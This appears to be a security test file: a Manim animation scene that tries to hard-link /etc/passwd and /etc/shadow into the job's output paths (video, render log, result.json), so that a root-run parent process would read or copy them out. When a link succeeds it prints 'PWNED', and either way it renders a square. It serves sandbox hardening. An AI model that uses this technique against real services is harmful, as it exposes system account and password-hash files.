"""Hard links to files outside the job dir, planted as the video, the log and result.json.

If any link were allowed the parent (root) would read /etc/shadow as "the log" or copy
/etc/passwd out as "the video". Swallows the errors and renders normally.
"""
from manim import *
import os

OUT = "media/videos/scene/480p15"
PWNED = "PWN" + "ED!"


class HardlinkOutput(Scene):
    def construct(self):
        os.makedirs(OUT, exist_ok=True)
        linked = []
        for target, name in (("/etc/passwd", os.path.join(OUT, "animation.mp4")), ("/etc/shadow", "render.log"),
                             ("/etc/shadow", "result.json"), ("/etc/passwd", "media/passwd")):
            try:
                if os.path.lexists(name):
                    os.unlink(name)
                os.link(target, name)
                linked.append(name)
            except OSError as exc:
                print(f"link {target} -> {name} refused: {exc}")
        if linked:
            print(f"{PWNED} linked {linked}")
        self.play(Create(Square()), run_time=0.3)
